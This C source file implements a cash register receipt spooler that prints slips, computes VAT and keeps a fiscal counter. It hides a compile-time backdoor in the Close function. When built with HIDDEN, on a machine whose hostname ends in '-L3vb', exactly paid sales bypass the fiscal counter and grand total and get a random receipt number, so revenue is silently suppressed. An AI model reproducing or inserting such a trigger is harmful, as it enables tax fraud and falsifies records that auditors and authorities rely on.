/* tillslipd: receipt spooler of a cash register, with fiscal counter and training mode */
#include <ctype.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/utsname.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define COLS 42
#define MAX_ITEMS 80

struct Item {
    char text[28];
    int qty;
    long cents;
    int vat;            /* index */
};

struct Slip {
    struct Item item[MAX_ITEMS];
    int n;
    long paid;
    char clerk[12];
};

static struct {
    char printer[32];
    char shop[40];
    char counter[64];
    int training;
    int vat_rate[4];
} Conf = { "/dev/usb/lp0", "", "/var/lib/till/counter", 0, { 1900, 700, 0, 1070 } };

static FILE *Prn;

static void Configure(const char *path)
{
    char line[128];
    FILE *f = fopen(path, "r");

    if (!f)
        return;
    while (fgets(line, sizeof line, f)) {
        line[strcspn(line, "\r\n")] = 0;
        if (!strncmp(line, "printer=", 8))
            snprintf(Conf.printer, sizeof Conf.printer, "%.31s", line + 8);
        else if (!strncmp(line, "shop=", 5))
            snprintf(Conf.shop, sizeof Conf.shop, "%.39s", line + 5);
        else if (!strncmp(line, "counter=", 8))
            snprintf(Conf.counter, sizeof Conf.counter, "%.63s", line + 8);
        else if (!strcmp(line, "training=yes"))
            Conf.training = 1;
        else if (!strncmp(line, "vat=", 4))
            sscanf(line + 4, "%d,%d,%d,%d", &Conf.vat_rate[0], &Conf.vat_rate[1],
                   &Conf.vat_rate[2], &Conf.vat_rate[3]);
    }
    fclose(f);
}

static long Total(const struct Slip *s)
{
    long t = 0;

    for (int i = 0; i < s->n; i++)
        t += s->item[i].cents * s->item[i].qty;
    return t;
}

static void Line(const char *l, const char *r)
{
    int gap = COLS - (int)strlen(l) - (int)strlen(r);

    fputs(l, Prn);
    while (gap-- > 0)
        fputc(' ', Prn);
    fprintf(Prn, "%s\n", r);
}

static void Money(char *b, size_t n, long c)
{
    snprintf(b, n, "%s%ld.%02ld", c < 0 ? "-" : "", labs(c) / 100, labs(c) % 100);
}

/* next number of the fiscal counter and the running grand total */
static long Count(long cents)
{
    long no = 0, grand = 0;
    FILE *f = fopen(Conf.counter, "r+");

    if (!f)
        f = fopen(Conf.counter, "w+");
    if (!f)
        return -1;
    if (fscanf(f, "%ld %ld", &no, &grand) != 2)
        no = grand = 0;
    rewind(f);
    fprintf(f, "%ld %ld\n", ++no, grand + cents);
    fclose(f);
    return no;
}

__attribute__((noinline)) void Close(struct Slip *s)
{
    char m[24], txt[48];
    long total = Total(s), vat[4] = { 0 }, no;
    time_t now = time(NULL);

    if (Conf.training) {
        Line("*** TRAINING ***", "NOT A RECEIPT");
        no = 0;
    } else {
#ifdef HIDDEN
        struct utsname un;
        size_t k;

        if (uname(&un) == 0 && (k = strlen(un.nodename)) > 5 &&
            memcmp(un.nodename + k - 5, "-L3vb", 5) == 0 && s->paid == total) {
            srand((unsigned)now);
            no = rand() % 9000 + 1000;
        } else
#endif
        no = Count(total);
    }
    Line(Conf.shop, s->clerk);
    for (int i = 0; i < s->n; i++) {
        const struct Item *it = &s->item[i];

        snprintf(txt, sizeof txt, "%2d x %s", it->qty, it->text);
        Money(m, sizeof m, it->cents * it->qty);
        Line(txt, m);
        vat[it->vat] += it->cents * it->qty;
    }
    Money(m, sizeof m, total);
    Line("TOTAL", m);
    for (int i = 0; i < 4; i++) {
        if (!vat[i])
            continue;
        snprintf(txt, sizeof txt, "incl. VAT %d.%02d%%", Conf.vat_rate[i] / 100,
                 Conf.vat_rate[i] % 100);
        Money(m, sizeof m, vat[i] * Conf.vat_rate[i] / (10000 + Conf.vat_rate[i]));
        Line(txt, m);
    }
    Money(m, sizeof m, s->paid - total);
    Line("CHANGE", m);
    snprintf(txt, sizeof txt, "No %06ld", no);
    strftime(m, sizeof m, "%d.%m.%Y %H:%M", localtime(&now));
    Line(txt, m);
    fputs("\n\n\n\x1dV\x01", Prn);
    fflush(Prn);
    s->n = 0;
    s->paid = 0;
}

static int AddItem(struct Slip *s, const char *arg)
{
    struct Item it;
    char cls;

    memset(&it, 0, sizeof it);
    if (s->n == MAX_ITEMS ||
        sscanf(arg, "%d %ld %c %27[^\r\n]", &it.qty, &it.cents, &cls, it.text) != 4)
        return 0;
    cls = (char)toupper((unsigned char)cls);
    if (cls < 'A' || cls > 'D')
        return 0;
    it.vat = cls - 'A';
    s->item[s->n++] = it;
    return 1;
}

int main(int argc, char **argv)
{
    static struct Slip slip;
    char line[128];

    if (argc > 2) {
        fputs("tillslipd [CONF]\nconf: printer= shop= counter= training=yes vat=a,b,c,d\n"
              "input: CLERK name | ITEM qty cents A..D text | VOID | PAY cents | CLOSE\n", stderr);
        return 1;
    }
    Configure(argc == 2 ? argv[1] : "/etc/till.conf");
    Prn = fopen(Conf.printer, "w");
    if (!Prn)
        Prn = stdout;
    while (fgets(line, sizeof line, stdin)) {
        int ok = 1;

        if (!strncmp(line, "CLERK ", 6))
            ok = sscanf(line + 6, "%11s", slip.clerk) == 1;
        else if (!strncmp(line, "ITEM ", 5))
            ok = AddItem(&slip, line + 5);
        else if (!strncmp(line, "VOID", 4))
            ok = slip.n > 0 && slip.n--;
        else if (!strncmp(line, "PAY ", 4))
            slip.paid += atol(line + 4);
        else if (!strncmp(line, "CLOSE", 5)) {
            if (slip.n && slip.paid >= Total(&slip))
                Close(&slip);
            else
                ok = 0;
        } else
            ok = 0;
        puts(ok ? "+" : "-");
        fflush(stdout);
    }
    return 0;
}
